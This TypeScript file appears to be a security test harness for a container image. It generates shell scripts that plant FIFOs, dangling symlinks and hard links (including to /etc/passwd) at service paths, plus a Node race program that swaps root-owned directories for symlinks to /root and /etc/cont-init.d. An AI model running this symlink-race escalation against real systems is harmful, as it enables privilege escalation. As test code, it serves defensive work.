/** Names that hermes, s6 or the image's scripts write in the home, and in every profile. */
const PROFILE = `SOUL.md config.yaml .config-cache.json .env gateway_intent.json gateway_state.json gateway.lock gateway.pid
gateway_boot.json processes.json .gateway-planned-stop.json`.split(/\s+/)
const HOME = `active_profile supervision.lock supervision.lock.new supervision.json .hermes-ownership`.split(' ')
const SLOT = 'run finish down supervise event log data notification-fd'.split(' ')
const LOGS = 'current lock state previous'.split(' ')

const below = (directory: string, names: readonly string[]): string[] => names.map((name) => `${directory}/${name}`)

/** From the top, where one name hides all below it, to the deepest: planted in as many boots. */
export const PLACES: Readonly<Record<string, readonly string[]>> = {
  deepest: [
    ...below('/opt/data/logs/gateways/default', LOGS),
    ...below('/opt/data/logs', ['container-boot.log', 'container-boot.log.1']),
    ...below('/run/service/gateway-default/supervise', ['status', 'status.new', 'death_tally', 'death_tally.new', 'control', 'lock']),
    ...below('/run/service/.s6-svscan', ['control', 'lock', 'SIGTERM', 'finish', 'crash']),
    ...below('/opt/data/profiles/coder', PROFILE),
    ...below('/opt/data/profiles/.deleted', ['coder']),
  ],
  files: [
    ...below('/opt/data', [...HOME, ...PROFILE]),
    ...below('/opt/data/logs', ['gateways']),
    ...below('/opt/data/profiles', ['coder', '.deleted', '.lock']),
    ...below('/opt/data/.local', ['share', 'state']),
    ...below('/run/service/gateway-default', SLOT),
    ...below('/run/service', ['.handed-over', '.s6-svscan', 'gateway-coder']),
  ],
  top: [
    ...below('/opt/data', ['profiles', 'logs', 'run', '.local', '.cache', '.config', '.npm']),
    ...below('/run/service', ['gateway-default', '.s6-svscan']),
    ...below('/tmp', ['hermes', 'node-compile-cache', 's6', 'hermes-1']),
    ...below('/run/user/10000', ['s6']),
    '/run/lock/hermes',
  ],
}

/** One command each; `$1` is the place. */
export const PLANTS: Readonly<Record<string, string>> = {
  FIFOs: 'mkfifo "$1"',
  'dangling links': 'ln -s "/etc/cont-init.d/99-$n" "$1"',
  'hard links': 'ln /opt/data/roots "$1" || ln /etc/passwd "$1" || ln /canary/file "$1"',
  'links to directories': 'ln -s /canary/directory "$1"',
  'links to files': 'ln -s /canary/file "$1"',
}

/** A script that plants one kind in all these places. What the kernel refuses is left out. */
export const planting = (kind: string, places: readonly string[]): string => `
plant() { ${PLANTS[kind]}; }
n=0
for place in ${places.join(' ')}; do
  n=$((n + 1))
  mkdir -p "\${place%/*}"
  rm -rf "$place"
  plant "$place"
done 2>/dev/null
true`

/**
 * A Node program for the service user: as long as an entry is still somebody else's, its directory is swapped with a link
 * to root's, for half of the time. Towards the end whatever it may rename. Says how often it could.
 */
export const swapping = (seconds: number): string => `
const fs = require('node:fs')
const targets = ['/canary/directory', '/root/canary/directory', '/etc/canary/directory', '/etc/cont-init.d', '/canary/file']
const end = Date.now() + ${seconds * 1000}
const sweep = end - ${seconds * 400}
let swaps = 0
console.log('attacking')
const attempt = (work) => { try { work(); return true } catch { return false } }
// In the order in which find(1) comes to them; readdir sorts.
const children = (top) => {
  const found = []
  attempt(() => {
    const directory = fs.opendirSync(top)
    for (let entry; (entry = directory.readSync()); ) if (!entry.name.startsWith('.')) found.push(top + '/' + entry.name)
    directory.closeSync()
  })
  return found
}
const foreign = (path) => { try { return fs.lstatSync(path).uid !== 10000 } catch { return false } }
const spin = (microseconds) => { for (const end = process.hrtime.bigint() + BigInt(microseconds) * 1000n; process.hrtime.bigint() < end;); }
const swap = (path, n) => {
  const away = path.replace(/[^/]+$/, '.away')
  if (!attempt(() => fs.renameSync(path, away))) return
  if (attempt(() => fs.symlinkSync(targets[n % targets.length], path))) swaps++
  spin(100)
  attempt(() => fs.rmSync(path))
  attempt(() => fs.renameSync(away, path))
  spin(100)
}
const tops = ['/opt/data/profiles', '/opt/data/profiles/coder', '/opt/data/logs', '/opt/data/logs/gateways', '/run/service', '/run/service/gateway-default']
for (let n = 0; Date.now() < end; n++) {
  for (const path of children('/opt/data/profiles/coder')) {
    const inside = [path, path + '/below', path + '/file']
    for (let k = 0; k < 200 && Date.now() < end && inside.some(foreign); k++) swap(path, n)
  }
  if (Date.now() > sweep) for (const top of tops) for (const path of [top, ...children(top).slice(-20)]) swap(path, n)
}
console.log('swaps ' + swaps)`
